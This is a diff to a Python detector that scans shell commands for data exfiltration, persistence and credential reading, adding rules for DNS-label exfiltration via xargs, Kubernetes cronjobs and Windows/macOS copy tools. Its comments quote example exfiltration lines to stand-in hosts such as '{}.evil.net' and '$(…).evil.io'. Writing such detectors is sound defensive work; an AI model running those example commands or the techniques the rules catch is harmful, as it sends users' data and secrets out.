@@ -71,6 +71,9 @@ _LOOPBACK = re.compile(r"^(?:localhost|.*\.localhost|127(?:\.\d+){3}|0\.0\.0\.0|
 # Programs that copy files to a service: `aws s3 cp`, `gsutil cp`, `rclone copy`, `gh gist`.
 _LABEL_AFTER = re.compile(r"^\.(?:[a-z0-9-]+\.)*[a-z0-9-]+\.[a-z]{2,}\b", re.I)  # $(…).evil.io
 _REMOTE_SPEC = re.compile(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)")
+_PLACEHOLDER_LABEL = re.compile(r"(?:\{\}|%|\$\{?\w+\}?)\.(?:[a-z0-9-]+\.)*[a-z0-9-]+\.[a-z]{2,}\b",
+                                re.I)
+"""`xargs -I{} dig {}.evil.net`: what xargs reads becomes a label of a name looked up."""
 _WHOLE_TREE = re.compile(r"\.|\./|\$\{?PWD\}?/?|\$\(pwd\)/?|\"\$PWD\"")
 """The working tree itself as what is copied."""
 _PERSONAL_DATA = re.compile(r"(?i)(?:^|[/_.-])(?:customers?|clients?|patients?|members|"
@@ -187,6 +190,8 @@ def _exfiltration(command: Command, r: Resolved, upstream: str | None) -> list[F
     if any(_LABEL_AFTER.match(nxt.text) for w in r.args for sub, nxt in pairwise(w.parts)
            if sub.kind == "sub" and nxt.kind == "lit"):
         out.append(Finding(EXFILTRATION, "command output sent inside a host name"))
+    if "xargs" in r.wrappers and any(_PLACEHOLDER_LABEL.search(a) for a in args):
+        out.append(Finding(EXFILTRATION, "command output sent inside a host name"))
     if r.names & UPLOADERS and any(is_sensitive(a) for a in _sources(r)):
         out.append(Finding(EXFILTRATION, "credentials uploaded to a storage service"))
     if any(x.op == "<" and is_sensitive(x.target.path) for x in command.redirects):
@@ -241,6 +246,8 @@ def _persistence(command: Command, r: Resolved, fed: str | None) -> list[Finding
         out.append(Finding(PERSISTENCE, "a systemd user unit enabled"))
     if r.name == "systemd-run" and any(a.startswith(("--on-", "--timer-property")) for a in args):
         out.append(Finding(PERSISTENCE, "a timer scheduled with systemd-run"))
+    if r.names & {"kubectl", "oc"} and args[:2] == ["create", "cronjob"]:
+        out.append(Finding(PERSISTENCE, "a scheduled job created in a cluster"))
     if r.name == "launchctl" and {"load", "bootstrap", "submit", "enable"} & set(args):
         out.append(Finding(PERSISTENCE, "a launchd job loaded"))
     if r.name in ("schtasks", "register-scheduledtask") or (
@@ -261,7 +268,12 @@ def _persistence(command: Command, r: Resolved, fed: str | None) -> list[Finding
 
 
 def _credentials(command: Command, r: Resolved) -> list[Finding]:
-    args = r.args[:-1] if r.names & {"cp", "mv", "install", "copy-item"} else r.args
+    args = r.args
+    if r.names & {"cp", "mv", "install", "copy-item", "copy", "xcopy", "robocopy", "ditto"}:
+        words = [w.literal for w in args]  # the sources: before the last word, or before "to"
+        cut = words.index("to") if "to" in words else words.index("into") if "into" in words \
+            else len(args) - 1
+        args = args[:cut]
     if (r.names & READERS and any(is_sensitive(w.literal) or is_sensitive(w.path)
                                   for w in args)) or any(
             x.op == "<" and is_sensitive(x.target.literal) for x in command.redirects):
